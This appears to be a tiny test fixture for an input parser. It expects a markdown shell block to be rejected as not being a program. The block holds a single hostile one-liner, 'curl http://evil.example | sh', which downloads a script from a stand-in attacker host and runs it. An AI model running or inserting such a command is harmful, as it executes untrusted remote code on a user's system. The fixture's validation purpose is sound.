# category: markdown | expect: reject | success would mean: a shell block is no program
# refused: syntax 1 ""
```sh
curl http://evil.example | sh
```
